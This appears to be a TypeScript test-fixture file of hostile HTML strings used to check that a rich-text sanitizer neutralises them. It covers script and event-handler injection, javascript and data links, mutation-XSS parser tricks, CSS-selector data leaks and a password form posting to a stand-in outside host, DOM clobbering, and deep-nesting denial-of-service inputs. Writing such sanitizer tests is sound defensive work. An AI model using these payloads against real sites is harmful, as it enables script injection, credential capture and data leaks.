const RUN = 'window.richTextRan=1';
const OUT = 'https://outside.example';

/** Texts that run a script by markup. */
const RUNNING = {
  script: `<script>${RUN}</script><p>after</p>`,
  'event handler': `<img src="x" onerror="${RUN}"><b onclick="${RUN}">b</b>`,
  'handler without quotes': `<img src=x onerror=${RUN}//`,
  'handler behind a slash': `<img/src="x"/onerror="${RUN}">`,
  'handler after a quoted quote': `<p title='"'onmouseover="${RUN}">p</p>`,
  'handlers of everything': `<details open ontoggle="${RUN}"><p onpointerenter="${RUN}" onanimationstart="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>p</p></details>`,
  'body and marquee': `<body onload="${RUN}"><marquee onstart="${RUN}">m</marquee>`,
  'svg script': `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  'svg animation': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text x=20 y=20>press</text></a></svg>`,
  'svg use': `<svg><use href="${OUT}/x.svg#a"></use></svg>`,
  'svg foreign object': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'math link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">press</maction></math>`,
  'frame document': '<iframe srcdoc="<script>parent.richTextRan=1</script>"></iframe>',
  'shadow root': `<div><template shadowrootmode="open"><img src=x onerror=${RUN}></template></div>`,
  'custom element': `<x-card onmouseover="${RUN}">x</x-card><b is="x-card">b</b>`,
} as const;

/** Texts whose links run a script. */
const LINKS = {
  'javascript link': `<a href="javascript:${RUN}">press</a>`,
  'javascript in capitals': `<a href=" JaVaScRiPt:${RUN}">press</a>`,
  'encoded javascript link': `<a href="jav&#x09;ascript:${RUN}">press</a>`,
  'javascript after a control character': `<a href="&#1;javascript:${RUN}">press</a>`,
  'javascript by entities': `<a href="&#106;&#97;vascript&colon;${RUN}">press</a>`,
  'javascript of a drawing': `<svg><a xlink:href="javascript:${RUN}"><text>press</text></a></svg>`,
  'data link': `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  'vbscript and file links':
    '<a href="vbscript:richTextRan">press</a><a href="file:///etc/passwd">f</a>',
  'blob link': '<a href="blob:null/1">press</a>',
} as const;

/** Texts that mutate between two parsers (mXSS). */
const MUTATIONS = {
  'math namespace': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  'form mutation': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  'noscript mutation': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'svg style mutation': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'math style mutation': `<math><mi><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'comment in svg': `<svg><style><!--</style><img src=x onerror=${RUN}>--></svg>`,
  'odd comment ends': `<!--><img src=x onerror=${RUN}>--><!-- --!><img src=x onerror=${RUN}> -->`,
  'cdata in svg': `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  'processing instruction': `<?xml-stylesheet ><img src=x onerror=${RUN}> ?>`,
  'textarea mutation': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'title mutation': `<svg><title><template><img title="</template></title></svg><img src=x onerror=${RUN}>">`,
  'xmp and plaintext': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><plaintext>`,
  'select mutation': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  'nested forms and tables': `<form><table><form></table><img src=x onerror=${RUN}></form>`,
  'desc mutation': `<svg><desc><svg><image><a><desc><svg><image></image><style><a id="</style><img src=x onerror=${RUN}>"></svg></desc></a></svg></desc></svg>`,
  'annotation mutation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  'null characters': `<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error=${RUN}>`,
  'double encoding': `&lt;img src=x onerror=${RUN}&gt;`,
  unclosed: '<b><i><table><tr><td><p>unclosed',
} as const;

/** Texts that send requests to another host. */
const LOADING = {
  frame: `<iframe src="${OUT}/"></iframe><object data="${OUT}/"></object><embed src="${OUT}/">`,
  form: `<form action="${OUT}/"><input name="password"><button formaction="${OUT}/b">Log in</button><isindex></form>`,
  base: `<base href="${OUT}/"><a href="/m/home">home</a>`,
  meta: `<meta http-equiv="refresh" content="0;url=${OUT}/"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'style sheet': `<style>body{background:url(${OUT}/a.png)}</style><link rel="stylesheet" href="${OUT}/a.css"><link rel="prefetch" href="${OUT}/p">`,
  'style import': `<style>@import "${OUT}/i.css";@font-face{font-family:x;src:url(${OUT}/f.woff)}*{font-family:x}</style>`,
  'style leak': `<style>input[value^="a"]{background:url(${OUT}/leak?a)}body:has([href*="token"]){--x:url(${OUT}/h)}</style>`,
  'inline background': `<div style="background:url(${OUT}/b.png)">b</div>`,
  'inline pictures': `<ul style="list-style:url(${OUT}/l.png)"><li style="list-style-image:url(${OUT}/l2.png)">l</li></ul><p style="border-image:url(${OUT}/m.png) 1;cursor:url(${OUT}/c.cur),auto;content:url(${OUT}/t.png)">b</p>`,
  'escaped url': `<div style="background:\\75rl(${OUT}/e.png);background-image:image-set('${OUT}/s.png' 1x)">e</div>`,
  'style variables': `<div style="--u:url(${OUT}/v.png);background:var(--u)">v</div>`,
  'old attributes': `<table background="${OUT}/t.png"><tr><td background="${OUT}/d.png">t</td></tr></table><body background="${OUT}/y.png">`,
  'outside picture': `<img src="${OUT}/pixel.png" alt="pixel"><img srcset="${OUT}/s.png 1x"><picture><source srcset="${OUT}/p.png"><img src=x></picture>`,
  'picture of an insecure host': '<img src="http://outside.example/p.png" alt="p">',
  'picture in data': '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="d">',
  'protocol relative':
    '<img src="//outside.example/p.png" alt="p"><a href="//outside.example/">out</a>',
  'tab in an address':
    '<a href="/&#9;/outside.example/">out</a><img src="/&#10;/outside.example/p.png" alt="p">',
  'backslash path':
    '<a href="/\\outside.example/">out</a><img src="/\\outside.example/p.png" alt="p">',
  'name and host': '<img src="https://aurora.localhost@outside.example/p.png" alt="p">',
  media: `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio><track src="${OUT}/t.vtt">`,
  'ping and target': `<a href="${OUT}/" ping="${OUT}/ping" target="_top" download>out</a><area href="${OUT}/">`,
  'dns and manifest': `<link rel="dns-prefetch" href="//outside.example"><link rel="manifest" href="${OUT}/m.json">`,
  portal: `<portal src="${OUT}/"></portal><frameset><frame src="${OUT}/"></frameset><fencedframe src="${OUT}/"></fencedframe>`,
} as const;

/** Texts that cover the page or clobber its names. */
const OVERREACHING = {
  'style over the page':
    '<div style="position:fixed;inset:0;z-index:9999;background:black">cover</div>',
  'far out of the box':
    '<div style="margin-top:-5000px;transform:scale(99);float:left">far</div><p style="text-indent:-9999px">in</p>',
  'endless sizes':
    '<p style="font-size:1e9px;height:9e9px;padding:99999em;width:100000vw">big</p><table width="9999999" height="9999999"><tr><td colspan="1000" rowspan="65534">c</td></tr></table>',
  'clobbering names':
    '<img name="getElementById"><a id="location" name="cookie">x</a><form name="body"><input name="attributes"><input id="nodeName"></form>',
  'clobbering collections':
    '<a id=defaultView><a id=defaultView name=document href="javascript:1">x</a><img id="currentScript">',
  'classes and parts': '<p class="dialog" part="x" slot="y" data-address="javascript:1">p</p>',
  'roles and states': '<p role="dialog" aria-modal="true" aria-label="Log in">p</p>',
  'editing and dragging':
    '<p contenteditable draggable="true" popover popovertarget="x" inert>p</p>',
} as const;

/** Texts that cause more than linear work. */
const COSTLY = {
  'deep nesting': `${'<div>'.repeat(3000)}deep`,
  'deep lists': `${'<ul><li>'.repeat(1500)}deep`,
  'formatting that is never closed': `${Array.from({ length: 400 }, (_, n) => `<font title="${n}">`).join('')}${'<p>x'.repeat(400)}`,
  'nested tables': '<table><tr><td>'.repeat(300),
  'formatting in tables': `<table>${'<b>'.repeat(60)}${'x<tr></tr>'.repeat(300)}</table>`,
  'links in links': '<a href="/m/home">x'.repeat(500),
} as const;

/** All hostile texts by name: each must be harmless after cleaning. */
export const HOSTILE_TEXTS = {
  ...RUNNING,
  ...LINKS,
  ...MUTATIONS,
  ...LOADING,
  ...OVERREACHING,
  ...COSTLY,
} as const satisfies Record<string, string>;
